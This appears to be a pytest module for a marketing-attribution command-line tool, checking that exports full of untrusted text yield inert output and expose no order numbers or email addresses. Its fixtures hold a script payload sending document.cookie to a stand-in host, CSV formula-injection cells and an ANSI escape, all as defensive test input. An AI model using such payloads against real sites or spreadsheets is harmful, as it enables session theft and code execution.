"""Strangers' text in totals, spend and a tool's word on orders: nothing acts, and nothing personal is kept."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

import pytest

from command_line import Ran, run
from hostile import is_text, values
from socialattr.names import Dimension
from test_hostile import Check, inert, oracle

__all__ = ["inert", "oracle"]

TEXTS = [value.text for value in values() if is_text(value.text)]
ORDER, MAIL = "zqorder", "zqmette@example.dk"
PERIOD = ("--period", "2026-10")


def table(headings: str, rows: Iterable[Sequence[object]], above: str = "") -> str:
    out = io.StringIO()
    out.write(f"{above}{headings}\n")
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def exports() -> dict[str, str]:
    """Each value in each name that a stranger or a colleague can write."""
    day = "20261031"
    name = TEXTS[0].replace("\n", " ")
    above = f"# ----\n# {name}\n# {name}-1\n# 20261001-20261031\n# ----\n\n"
    source = "Date,Session source / medium,Session campaign"
    meta = "Reporting starts,Reporting ends,Day,Campaign name,Ad set name,Ad name,Account name,Amount spent (DKK)"
    span = ("2026-10-01", "2026-10-31", "2026-10-31")
    woo = "Order Number,Order Date,Order Status,Order Total,Currency,Billing Email,Attribution UTM Campaign"
    return {
        "ga4.csv": table(f"{source},Sessions", [(day, f"fb{text} / cpc", text, 3) for text in TEXTS], above),
        "seen.csv": table(
            f"Transaction ID,{source.removeprefix('Date,')},Purchase revenue",
            [(f"{ORDER}-{n}", f"{text} / paid_social", text, 5) for n, text in enumerate(TEXTS)],
            above,
        ),
        "meta.csv": table(meta, [(*span, text, text, text, f"konto{n % 2}", 7) for n, text in enumerate(TEXTS)]),
        "list.csv": table("date,platform,campaign,spend", [("2026-10-31", f"P{text}", text, 2) for text in TEXTS]),
        "woo.csv": table(
            woo,
            [
                (f"{ORDER}-{n}", "2026-10-31 12:00:00", "completed", "10.00", "DKK", f"{n}{MAIL}", text)
                for n, text in enumerate(TEXTS)
            ],
        ),
        "nobodys.csv": table(
            ",".join(f'"{h}"' for h in ("=1+1", "\x1b[31mrød", "Beløb")), [("=cmd()", text, 1) for text in TEXTS]
        ),
    }


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Ran]:
    """What each command prints of a project with such exports."""
    folder = tmp_path_factory.mktemp("levels")
    files = exports()
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8", newline="")
    project = folder / "project"
    found = {f"dry {name}": run(project, "ingest", "--dry-run", folder / name) for name in files}
    found |= {f"ingest {name}": run(project, "ingest", folder / name) for name in files}
    for by in Dimension:
        found[f"report {by}"] = run(project, "report", *PERIOD, "--by", by)
        found[f"report {by} csv"] = run(project, "report", *PERIOD, "--by", by, "--format", "csv")
        found[f"report {by} json"] = run(project, "report", *PERIOD, "--by", by, "--format", "json")
    for command in ("status", "conversions", "imports"):
        found |= {command: run(project, command), f"{command} json": run(project, command, "--json")}
    for name in files:
        if name != "nobodys.csv":
            found |= {
                f"rows {name}": run(project, "imports", name),
                f"rows {name} json": run(project, "imports", name, "--json"),
            }
    found["explain"] = run(project, "explain", f"{ORDER}-3")
    for form in ("table", "json", "csv"):
        found[f"sensitivity {form}"] = run(project, "sensitivity", *PERIOD, "--format", form)
    found["explain list csv"] = run(project, "explain", *PERIOD, "--format", "csv")
    found["project"] = Ran(0, "".join(p.read_bytes().decode("latin-1") for p in project.rglob("*") if p.is_file()), "")
    return found


def test_no_output_acts(ran: dict[str, Ran], inert: Check) -> None:
    inert({name: one for name, one in ran.items() if name != "project"})


def test_every_command_ends_as_documented(ran: dict[str, Ran]) -> None:
    allowed = {0, 1, 3}
    assert {name: one.talk for name, one in ran.items() if one.code not in allowed and "nobodys" not in name} == {}
    assert ran["ingest nobodys.csv"].code == 65


def test_files_were_read_in_whole(ran: dict[str, Ran]) -> None:
    # All but the record with a lone carriage return, which ends a line outside of quotes.
    for name in ("ga4.csv", "seen.csv", "meta.csv"):
        assert f"{len(TEXTS) - 1}          0" in ran[f"ingest {name}"].out, ran[f"ingest {name}"].talk


def test_no_order_number_and_no_address_is_stored_or_shown(ran: dict[str, Ran]) -> None:
    for name, one in ran.items():
        assert MAIL not in one.talk, name
        if not name.startswith("explain"):
            assert f"{ORDER}-1" not in one.talk, name


def test_a_campaign_is_shown_as_it_is(ran: dict[str, Ran]) -> None:
    text = "<script>fetch('//ond.example/'+document.cookie)</script>"
    assert text in TEXTS
    assert text in ran["report campaign json"].out
    assert text in ran["report campaign csv"].out


def test_a_first_line_stays_short_however_many_platforms_there_are(ran: dict[str, Ran]) -> None:
    assert len(ran["report network"].out.partition("\n\n")[0]) < 1_500
